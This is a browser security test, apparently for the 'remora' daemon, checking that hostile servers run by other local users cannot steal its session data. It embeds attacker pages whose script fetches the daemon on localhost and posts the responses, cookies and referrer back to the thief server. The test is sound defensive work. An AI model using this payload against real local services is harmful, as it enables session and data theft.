// Web servers of another user on this machine, which the browser opens. They keep all that it sends them, and try it on the daemon.

import assert from "node:assert/strict";
import fs from "node:fs";
import http from "node:http";
import os from "node:os";
import path from "node:path";

// Paths that anybody knows: those of the daemon, with and without a slash.
const KNOWN = ["/", "/enter", "/sessions", "/memory", "/settings", "/assets/app.js", "/api/v1/ui-link", "/stream", "/favicon.ico"];

class Thief {
  constructor(address) {
    this.address = address;
    this.seen = [];
  }

  async start(target) {
    this.server = http.createServer((request, answer) => {
      this.seen.push({ url: request.url, headers: request.headers });
      request.resume();
      // Sends the browser through every path, sets cookies of the same names, and lets its script do what it can.
      const next = KNOWN[KNOWN.indexOf(request.url) + 1];
      answer.setHeader("Set-Cookie", ["remora_session=00.00; Path=/", "remora_browser=" + "0".repeat(32) + "; Path=/"]);
      answer.setHeader("Referrer-Policy", "unsafe-url");
      if (next) answer.writeHead(302, { Location: next }).end();
      else answer.writeHead(200, { "Content-Type": "text/html" }).end(`<a href="${target}/">on</a><script>
        for (const host of ["127.0.0.1", "localhost", "[::1]"]) {
          const there = new URL("${target}");
          there.hostname = host;
          for (const credentials of ["include", "omit"]) fetch(there, { credentials }).then((answer) => answer.text()).then((text) => fetch("/got", { method: "POST", headers: { "X-Got": encodeURIComponent(text).slice(0, 4000) } })).catch(() => {});
          const frame = document.createElement("iframe");
          frame.src = there;
          document.body.append(frame);
        }
        fetch("/said", { method: "POST", headers: { "X-Got": encodeURIComponent(document.cookie + " " + document.referrer + " " + (opener ? "opener" : "")) } });
      </script>`);
    });
    await new Promise((resolve, reject) => this.server.on("error", reject).listen(0, this.address.replace(/[[\]]/g, ""), resolve));
    this.origin = `http://${this.address}:${this.server.address().port}`;
  }

  end() {
    this.server.closeAllConnections();
    this.server.close();
  }
}

// One request outside of the browser, with headers that a browser would not let a page send.
function ask(address, headers, method = "GET") {
  return new Promise((resolve, reject) => {
    const request = http.request(address, { method, headers }, (answer) => {
      let text = "";
      answer.on("data", (data) => { text += data; }).on("end", () => resolve({ status: answer.statusCode, text }));
    });
    request.on("error", reject).end(method === "GET" ? undefined : "{}");
  });
}

export async function watchThieves({ context, page, test, until, origin, world }) {
  await test("another server of this machine gets nothing that opens the pages", async () => {
    const daemon = new URL(origin).origin;
    const root = new URL(origin).pathname.slice(1);
    const secret = (await page.locator('meta[name="remora-page"]').getAttribute("content"));
    const thieves = ["127.0.0.1", "localhost", "[::1]"].map((address) => new Thief(address));
    // A redirect file, as `remora ui` makes one, signs this browser in again. Its link leads from a file to the daemon.
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "remora-open-")), "open.html");
    fs.writeFileSync(file, `<meta http-equiv="refresh" content="0;url=${world.remora("ui", "--print").trim().replace(/&/g, "&amp;")}">`);
    try {
      const first = await context.newPage();
      await first.goto(`file://${file}`);
      await first.waitForURL(`${origin}/`);
      await first.close();
      for (const thief of thieves) {
        await thief.start(daemon);
        // Typed, from a link on a page of ours, from its script, and back to the daemon by a link of the thief's.
        const tab = await context.newPage();
        await tab.goto(`${thief.origin}/`);
        await tab.goto(`${origin}/`);
        await tab.evaluate((to) => {
          const link = Object.assign(document.createElement("a"), { href: to, textContent: "elsewhere", id: "away" });
          document.querySelector("main").prepend(link);
        }, `${thief.origin}/`);
        await tab.locator("#away").click();
        await until("the thief's page", async () => tab.url().startsWith(thief.origin) && (await tab.locator("a").count()) === 1);
        const opening = context.waitForEvent("page");
        await page.evaluate((to) => { window.open(`${to}/`); }, thief.origin);
        const opened = await opening;
        await until("the thief's script", () => thief.seen.filter((one) => one.url === "/said").length >= 3);
        await tab.locator("a").click();
        await until("the page for strangers", async () => /remora ui|another site/.test(await tab.innerText("main")));
        await opened.close();
        await tab.close();
        const all = decodeURIComponent(JSON.stringify(thief.seen));
        assert.ok(thief.seen.length > 3 * KNOWN.length, `${thief.seen.length} requests`);
        for (const key of [root, secret].filter((key) => key.length > 0)) assert.ok(!all.includes(key), `${thief.origin} has ${key}: ${all}`);
        // With all cookies it got, on every path it knows, as a program that can send any header.
        const jar = [...new Set(thief.seen.flatMap((one) => (one.headers.cookie ?? "").split("; ")).filter(Boolean))];
        const ids = jar.map((cookie) => cookie.split("=")[1].split(".")[0]);
        const paths = new Set([...KNOWN, ...thief.seen.map((one) => one.url), ...ids.map((id) => `/${id}/`), "/api/sessions", "/privacy/export", "/?project=1"]);
        for (const cookie of ["", jar.join("; "), ...jar, ...jar.map((one) => one.replace("remora_browser", "remora_session"))]) {
          for (const address of paths) {
            const { status, text } = await ask(daemon + address, { Cookie: cookie, Accept: "text/html", "Sec-Fetch-Site": "none" });
            assert.ok([401, 404].includes(status), `${address} with ${cookie}: ${status}`);
            assert.ok(!text.includes("remora-page") && !(root && text.includes(root)), text);
          }
          const change = await ask(`${daemon}/api/memory/facts`, { Cookie: cookie, "Content-Type": "application/json", "X-Remora-Page": secret }, "POST");
          assert.equal(change.status, 401, "a rule is set");
        }
      }
      // Cookies that thieves set sign nobody out.
      const answer = await page.goto(`${origin}/`);
      assert.equal(answer.status(), 200);
    } finally {
      for (const thief of thieves) if (thief.server) thief.end();
      fs.rmSync(path.dirname(file), { recursive: true });
    }
  });
}
